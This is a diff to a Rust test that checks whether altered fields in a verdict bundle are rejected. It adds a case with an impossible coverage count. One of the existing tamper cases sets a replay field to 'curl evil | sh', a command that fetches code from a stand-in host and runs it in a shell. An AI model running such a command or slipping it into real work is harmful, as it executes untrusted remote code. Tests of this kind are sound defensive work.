@@ -193,7 +193,7 @@ mod tests {
         let read = |verdict: &Verdict| Bundle::read(&Bundle::new(verdict.clone(), vec![]).line()).unwrap();
         assert_eq!(read(&honest).check(), Ok(()));
         type Change = fn(&mut Verdict);
-        let changes: [(&str, Change); 17] = [
+        let changes: [(&str, Change); 18] = [
             ("id", |v| v.id = "0".repeat(12)),
             ("id", |v| v.submission.name = "somebody".to_owned()),
             ("outcome", |v| v.outcome = Ruling::Accepted),
@@ -225,6 +225,15 @@ mod tests {
                 v.measurements[0].samples = vec![1.0, -1.0];
             }),
             ("findings[0].replay", |v| v.findings[0].replay = Some("curl evil | sh".to_owned())),
+            ("coverage[0].covered", |v| {
+                v.coverage = vec![tribunal_judge::Coverage {
+                    kernel: "k".to_owned(),
+                    launched: true,
+                    instructions: 3,
+                    covered: 4,
+                    uncovered: vec![],
+                }];
+            }),
         ];
         for (field, change) in changes {
             let mut changed = honest.clone();
